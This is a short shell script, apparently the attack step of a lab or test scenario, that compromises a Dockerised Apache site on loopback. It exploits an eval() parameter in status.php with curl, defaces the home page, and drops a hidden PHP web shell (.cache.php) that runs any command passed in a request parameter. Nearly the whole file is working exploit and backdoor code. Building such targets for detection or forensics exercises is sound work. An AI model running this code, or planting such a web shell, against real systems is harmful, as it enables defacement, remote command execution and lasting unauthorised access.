#!/bin/sh
# The compromise, over HTTP on loopback through the status page's eval(): deface the home
# page and drop a PHP web shell. Ground truth: README.md and expected.json.
set -eu
victim=$1
port=$(docker inspect -f '{{range .Config.Env}}{{println .}}{{end}}' "$victim" | sed -n 's/^APACHE_PORT=//p' | tail -n 1)
[ -n "$port" ] || { echo "attack: $victim has no APACHE_PORT" >&2; exit 1; }
command -v curl >/dev/null 2>&1 || { echo "attack: needs curl (Debian: apt-get install curl)" >&2; exit 1; }
php() { curl -fsS --max-time 20 -G --data-urlencode "eval=$1" "http://127.0.0.1:$port/status.php" >/dev/null; }
php 'file_put_contents("/var/www/html/index.html", "<h1>HACKED</h1>\n");'
php 'file_put_contents("/var/www/html/.cache.php", "<?php if (isset(\$_REQUEST[\"c\"])) { echo shell_exec(\$_REQUEST[\"c\"]); } ?>\n");'
